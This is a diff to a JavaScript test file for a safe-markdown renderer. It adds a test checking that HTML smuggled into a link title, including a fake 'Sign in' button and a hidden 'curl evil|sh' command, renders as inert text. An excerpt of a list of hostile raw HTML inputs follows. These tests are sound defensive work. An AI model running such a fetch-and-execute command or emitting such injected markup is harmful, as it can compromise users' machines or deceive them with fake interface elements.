@@ -42,6 +42,15 @@ describe("safe markdown", () => {
     expect(buttons.every((b) => b.nextElementSibling?.tagName === "PRE" && b.getAttribute("aria-label") === "Copy code")).toBe(true);
   });
 
+  it("never turns an attribute the model wrote into markup (a link title holding code-block tags)", () => {
+    const div = render('[x](#a "<pre><button class=primary>Sign in</button><pre><span hidden>;curl evil|sh</span>") and [y](https://ok.example "<pre>t</pre>")');
+    expect(div.querySelector("button, pre, span, div")).toBeNull();
+    const [unsafe, safe] = [...div.querySelectorAll("a")];
+    expect(unsafe.hasAttribute("href") || unsafe.hasAttribute("title")).toBe(false);
+    expect(safe.getAttribute("title")).toBe("Opens in your browser: https://ok.example");
+    expect(div.textContent?.trim()).toBe("x and y");
+  });
+
   it("shows raw HTML as text and runs, styles or loads nothing", () => {
     const hostile = [
       "<style>body{display:none}</style>",
